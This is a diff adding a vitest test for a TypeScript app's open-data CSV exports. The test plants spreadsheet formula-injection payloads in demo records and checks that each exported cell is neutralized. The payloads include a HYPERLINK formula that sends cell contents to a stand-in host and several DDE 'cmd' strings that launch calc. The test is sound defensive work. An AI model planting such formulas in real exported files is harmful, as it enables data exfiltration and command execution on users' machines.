@@ -1,6 +1,8 @@
 import Papa from 'papaparse'
 import { describe, expect, it } from 'vitest'
 import { AGREEMENT_COLUMNS, COMMITMENT_COLUMNS, exportOpenData, openDataJsonSchemas } from '../../main/core/domain/open-data'
+import { auditCsv } from '../../main/core/domain/audit'
+import { neutralizeCell } from '../../main/core/domain/csv-out'
 import { parseProgressCsv } from '../../main/core/domain/progress-csv'
 import { search } from '../../main/core/domain/search'
 import { demoData } from '../support/bridge'
@@ -53,6 +55,34 @@ describe('datos abiertos', () => {
       expect(parsed.data[0]).toEqual([...columns])
       expect(csv).toMatch(/[áéíóúñ]/)
     }
+  })
+  it('ninguna celda de los CSV que escribe la aplicación es una fórmula viva (acuerdos, compromisos, bitácora)', () => {
+    const hostile = structuredClone(data)
+    const agreement = hostile.agreements[0]
+    const commitment = hostile.commitments[0]
+    const milestone = commitment?.milestones[0]
+    if (!agreement || !commitment || !milestone) throw new Error('demo sin acuerdos o hitos')
+    agreement.text = '=HYPERLINK("https://ejemplo.invalid/?d="&A1,"Ver acuerdo")'
+    commitment.title = '+cmd|" /C calc"!A0'
+    milestone.evidence = '@SUM(1+1)*cmd|" /C calc"!A0'
+    for (const member of hostile.members) if (agreement.responsibleMemberIds.includes(member.id)) member.fullName = '-2+3+cmd|" /C calc"!A0'
+    hostile.audit.push({ id: 'aud-formula', at: NOW.toISOString(), profile: '\t=1+1', entity: 'configuracion', entityId: 'x', action: 'editar', summary: '\r=1+1' })
+    const cells = [
+      ...Papa.parse<string[]>(exportOpenData(hostile, 'acuerdos', 'csv', NOW).slice(1), { skipEmptyLines: true }).data.flat(),
+      ...Papa.parse<string[]>(exportOpenData(hostile, 'compromisos', 'csv', NOW).slice(1), { skipEmptyLines: true }).data.flat(),
+      ...Papa.parse<string[]>(auditCsv(hostile.audit).slice(1), { skipEmptyLines: true }).data.flat(),
+    ]
+    // A spreadsheet evaluates a cell starting with = + - @ (or a tab or carriage return): none does, except plain numbers.
+    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell))
+    expect(live).toEqual([])
+    expect(cells).toContain(`'${agreement.text}`)
+    expect(cells).toContain(`'${commitment.title}`)
+    expect(cells.some((cell) => cell.startsWith("'@SUM"))).toBe(true)
+    expect(cells).toContain("'\r=1+1")
+    // A negative number stays a number.
+    expect(neutralizeCell('-3')).toBe('-3')
+    expect(neutralizeCell(-3)).toBe(-3)
+    expect(neutralizeCell('-3 días')).toBe("'-3 días")
   })
   it('JSON válido contra la forma documentada', () => {
     for (const what of ['acuerdos', 'compromisos'] as const) {
